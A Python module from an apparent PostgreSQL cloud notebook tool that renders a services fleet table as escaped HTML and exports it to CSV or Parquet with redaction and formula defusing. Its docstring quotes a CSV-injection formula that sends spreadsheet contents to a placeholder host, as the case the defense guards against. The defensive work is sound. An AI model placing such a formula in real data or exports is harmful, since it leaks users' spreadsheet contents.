"""The fleet table's pure parts: which rows a filter keeps, the compact HTML, the export files.

Kept apart from the widget (:mod:`pgcloud_nb.widgets.fleet`) so that each can be
tested on a plain frame, without widgets, a kernel or an API.

The HTML fits a notebook's width (about 1,000 px in JupyterLab): one short
column per field a person scans (the id as its first 8 characters, the size
with its vCPUs and memory in a tooltip, the key metrics as plain numbers with
their totals in tooltips), the tags as one ``key=value, key=value`` line cut
with ``…`` (every tag in its tooltip), so that each row stays one line high,
and the whole in a box that scrolls sideways when it is still too wide. Every
value from the API is HTML-escaped: names and tags are user input.

For the same reason a CSV export defuses formulas: a spreadsheet opening the file
runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (some skip a
leading tab or carriage return first), so a service named or tagged
``=HYPERLINK("http://x/?"&A1)`` would send the sheet's contents away when clicked.
Such text cells get a leading ``'``, OWASP's rule against CSV injection, which a
spreadsheet shows as text; numbers are left alone, and headers need nothing (a tag
column is ``tag.<key>``). Every text cell is quoted as well: pandas' writer leaves a
lone carriage return unquoted, which a spreadsheet reads as the start of a new row,
whose first cell would escape the rule. Parquet keeps the text as it is: it is read as data, not
evaluated. The files (and a folder made for them) are the user's only, 0600 and
0700: they list the fleet's names and tags.
"""

from __future__ import annotations

import csv
import json
import math
import os
from collections.abc import Callable, Mapping
from datetime import datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from ..redaction import redact
from ..tables import (
    ID_CHARS,
    NOWRAP,
    Cell,
    byte_text,
    cell,
    escape,
    number_text,
    table_html,
    td,
)

__all__ = [
    "COLUMNS",
    "FORMATS",
    "PAD_EM",
    "export_frame",
    "fleet_html",
    "id_chars",
    "matches",
    "shown_path",
    "tag_order",
    "write_export",
]

NAME_CHARS = 32
TAGS_CHARS = 24  # the tags column's text; all of them in its tooltip
# JupyterLab pads table cells 0.5 em a side; 0.3 em keeps twelve columns apart and gives
# the table about 60 px back, so that a fleet fits a notebook's 1,008 px.
PAD_EM = 0.3
CELL_STYLE = f"{NOWRAP};padding-left:{PAD_EM}em;padding-right:{PAD_EM}em"
MAX_ROWS = 500
FORMATS = {"csv": "csv", "parquet": "parquet"}

# (header, frame column, header tooltip): the order the table shows, and what the
# sort menu offers first. Columns a frame lacks (no metrics yet) show as blanks.
COLUMNS: tuple[tuple[str, str, str], ...] = (
    ("name", "name", "service name"),
    ("state", "state", "service state"),
    ("id", "id", "service id: the first 8 characters (hover for the whole id)"),
    ("region", "region", "region (hover for the provider)"),
    ("size", "size", "instance size (hover for vCPUs, memory and storage)"),
    ("pg", "postgresVersion", "PostgreSQL major version"),
    ("HA", "haType", "high availability: none, async or sync standby"),
    ("CPU %", "cpu_percent", "CPU busy, between the last two scrapes (blank until the second)"),
    ("conns", "connections", "connections (hover for the active ones)"),
    ("mem %", "memory_used_percent", "memory used (hover for the limit)"),
    ("disk %", "filesystem_used_percent", "storage used (hover for the limit)"),
    ("tags", "", "tags, key=value"),
)
TAG_PREFIX = "tag."


# --- filtering -----------------------------------------------------------------------------


def _is_text(column: pd.Series) -> bool:
    if isinstance(column.dtype, pd.CategoricalDtype):
        return True
    return pd.api.types.is_string_dtype(column.dtype) and not pd.api.types.is_object_dtype(
        column.dtype
    )


def matches(frame: pd.DataFrame, needle: str) -> np.ndarray:
    """Rows where ``needle`` (case-folded) is part of a text column: id, name, region, tags….

    Built as a numpy mask column by column, so an empty frame, or one whose
    text columns are all NA, gives an empty or all-False mask on pandas 2.2 and
    3 alike (a frame-wide ``.any`` over string columns raises on pandas 3).
    """
    hit = np.zeros(len(frame), dtype=bool)
    needle = needle.casefold()
    for name in frame.columns:
        column = frame[name]
        if not len(column) or not _is_text(column):
            continue
        found = column.astype("string").str.casefold().str.contains(needle, regex=False)
        hit |= found.fillna(False).to_numpy(dtype=bool)
    return hit


# --- HTML --------------------------------------------------------------------------------


def _missing(value: Any) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def _get(row: Mapping[str, Any], column: str) -> Any:
    value = row.get(column)
    return None if _missing(value) else value


def _percent(value: Any, title: str = "") -> Cell:
    return Cell("" if value is None else f"{float(value):.1f}", title)


def _size_title(row: Mapping[str, Any]) -> str:
    parts = []
    if (vcpus := _get(row, "vcpus")) is not None:
        parts.append(f"{vcpus} vCPU")
    if (memory := _get(row, "memoryGib")) is not None:
        parts.append(f"{number_text(memory)} GiB memory")
    if (storage := _get(row, "storageGib")) is not None:
        parts.append(f"{storage} GiB storage")
    return " · ".join(parts)


def _of(row: Mapping[str, Any], column: str) -> str:
    limit = _get(row, column)
    return "" if limit is None else f"of {byte_text(float(limit))}"


def tag_order(frame: pd.DataFrame) -> list[str]:
    """The frame's tag columns, those that tell the rows apart first.

    A tag with one value wherever it is set (``run=6f0f6e`` on a notebook's
    services) says least, so it goes last, where the cut at :data:`TAGS_CHARS`
    falls; the order is otherwise the frame's.
    """
    tags = [str(c) for c in frame.columns if str(c).startswith(TAG_PREFIX)]
    same = {c for c in tags if frame[c].nunique(dropna=True) <= 1}
    return [c for c in tags if c not in same] + [c for c in tags if c in same]


def _tags(row: Mapping[str, Any], order: list[str]) -> str:
    """All tags on one line, ``k=v, k=v``, cut at :data:`TAGS_CHARS`; each tag on its own line
    in the tooltip. One line keeps every row one line high, however many tags a service has."""
    pairs = [
        f"{key.removeprefix(TAG_PREFIX)}={row[key]}" for key in order if _get(row, key) is not None
    ]
    text = ", ".join(pairs)
    if len(text) <= TAGS_CHARS:
        return td(Cell(text), style=CELL_STYLE)
    cut = text[: TAGS_CHARS - 1].rstrip(", ") + "…"
    return td(Cell(cut, "\n".join(pairs)), style=CELL_STYLE)


_CELLS: dict[str, Callable[[Mapping[str, Any]], Cell]] = {
    "name": lambda r: cell("name", _get(r, "name"), limit=NAME_CHARS),
    "region": lambda r: Cell(str(_get(r, "region") or ""), str(_get(r, "provider") or "")),
    "size": lambda r: Cell(str(_get(r, "size") or ""), _size_title(r)),
    "cpu_percent": lambda r: _percent(_get(r, "cpu_percent")),
    "connections": lambda r: Cell(
        "" if (n := _get(r, "connections")) is None else number_text(n),
        "" if (a := _get(r, "active_connections")) is None else f"{a} active",
    ),
    "memory_used_percent": lambda r: _percent(
        _get(r, "memory_used_percent"), _of(r, "memory_limit_bytes")
    ),
    "filesystem_used_percent": lambda r: _percent(
        _get(r, "filesystem_used_percent"), _of(r, "storage_limit_bytes")
    ),
}


def id_chars(ids: list[str]) -> int:
    """The shortest prefix, from :data:`~pgcloud_nb.tables.ID_CHARS` up, that tells ids apart."""
    unique = set(ids)
    for n in range(ID_CHARS, max(map(len, unique), default=0)):
        if len({i[:n] for i in unique}) == len(unique):
            return n
    return max([ID_CHARS, *map(len, unique)])


def _id_cell(value: Any, chars: int) -> Cell:
    text = "" if _missing(value) else str(value)
    return Cell(text[:chars] + "…", text) if len(text) > chars + 1 else Cell(text)


def _row(row: Mapping[str, Any], chars: int, tags: list[str]) -> str:
    cells = []
    for _, column, _ in COLUMNS:
        if not column:
            cells.append(_tags(row, tags))
            continue
        if column == "id":
            cells.append(td(_id_cell(row.get("id"), chars), code=True, style=CELL_STYLE))
            continue
        render = _CELLS.get(column)
        shown = render(row) if render else cell(column, _get(row, column))
        cells.append(td(shown, style=CELL_STYLE))
    return f"<tr>{''.join(cells)}</tr>"


def fleet_html(frame: pd.DataFrame, *, empty: str = "No services.") -> str:
    """The compact table of a services frame or fleet snapshot (at most ``MAX_ROWS`` rows)."""
    headers = [Cell(label, title) for label, _, title in COLUMNS]
    shown = frame.iloc[:MAX_ROWS]
    ids = [str(i) for i in shown["id"].dropna()] if "id" in shown else []
    chars = id_chars(ids)
    tags = tag_order(shown)
    rows = [_row({str(k): v for k, v in r.items()}, chars, tags) for r in shown.to_dict("records")]
    if not rows:
        rows = [f'<tr><td colspan="{len(COLUMNS)}"><i>{escape(empty)}</i></td></tr>']
    return table_html(
        headers, rows, more=len(frame) - len(shown), css_class="pgcloud-fleet", style=CELL_STYLE
    )


# --- export ------------------------------------------------------------------------------


# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
_FORMULA_START = r"[=+\-@\t\r]"


def export_frame(frame: pd.DataFrame, *, csv: bool = False) -> pd.DataFrame:
    """The frame as written to a file: every column, secrets masked, lists and dicts as JSON.

    The frames hold no password or connection string (:mod:`pgcloud_nb.frames`);
    text goes through :func:`~pgcloud_nb.redaction.redact` as well, for a secret a
    person pasted into a tag or a name. With ``csv=True``, text that a spreadsheet
    would run as a formula starts with ``'`` (see the module's docstring).
    """
    out = _export_frame(frame)
    if csv:
        for name in out.columns:
            if _is_text(out[name]):
                out[name] = _defused(out[name])
    return out


def _defused(column: pd.Series) -> pd.Series:
    text = column.astype("string")
    risky = text.str.match(_FORMULA_START).fillna(False).astype(bool)
    return text.mask(risky, "'" + text) if risky.any() else text


def _export_frame(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.reset_index(drop=True).copy()
    for name in out.columns:
        column = out[name]
        if pd.api.types.is_object_dtype(column.dtype):
            text = [None if _missing(v) else redact(_json(v)) for v in column]
            out[name] = pd.Series(pd.array(text, dtype="string"), index=out.index)
        elif _is_text(column):
            out[name] = _redacted(column)
    return out


def _json(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value, default=str, ensure_ascii=False)


def _redacted(column: pd.Series) -> pd.Series:
    if isinstance(column.dtype, pd.CategoricalDtype):
        values = [str(v) for v in column.cat.categories]
    else:
        values = [str(v) for v in column.dropna().unique()]
    if all(redact(v) == v for v in values):
        return column  # the normal case: dtypes kept as they are
    masked = [None if pd.isna(v) else redact(str(v)) for v in column.astype(object)]
    return pd.Series(pd.array(masked, dtype="string"), index=column.index)


def write_export(frame: pd.DataFrame, folder: str | Path, fmt: str, *, now: datetime) -> Path:
    """Write ``frame`` to ``folder/fleet-<UTC time>.<fmt>`` (a new file, never an overwrite)."""
    if fmt not in FORMATS:
        raise ValueError(f"export format {fmt!r}: choose one of {', '.join(FORMATS)}")
    base = Path(folder).expanduser()
    if not base.is_dir():  # a folder that exists keeps its mode: it is the user's choice
        base.parent.mkdir(parents=True, exist_ok=True)
        base.mkdir(mode=0o700, exist_ok=True)
    stem = f"fleet-{now.strftime('%Y%m%d-%H%M%S')}"
    data = export_frame(frame, csv=fmt == "csv")
    for n in range(1, 1000):
        path = base / f"{stem}{'' if n == 1 else f'-{n}'}.{FORMATS[fmt]}"
        try:  # O_EXCL: two clicks in one second make two files; 0600 from the start
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except FileExistsError:
            continue
        out = os.fdopen(fd, "wb")
        try:
            with out:
                if fmt == "csv":
                    data.to_csv(out, index=False, quoting=csv.QUOTE_NONNUMERIC)
                else:
                    data.to_parquet(out, index=False)
        except BaseException:
            path.unlink(missing_ok=True)  # no half-written file left to be read as an export
            raise
        return path.resolve()
    raise FileExistsError(f"{base}: too many exports named {stem}-*")


def shown_path(path: Path, cwd: Path | None = None) -> str:
    """``path`` as a person reads it: relative to ``cwd`` (the notebook's folder) when
    inside it, else from ``~`` when inside the home folder, else whole."""
    path = Path(path).absolute()
    for base, prefix in ((cwd or Path.cwd(), ""), (Path.home(), "~/")):
        try:
            return prefix + str(path.relative_to(base.absolute()))
        except ValueError:
            continue
    return str(path)
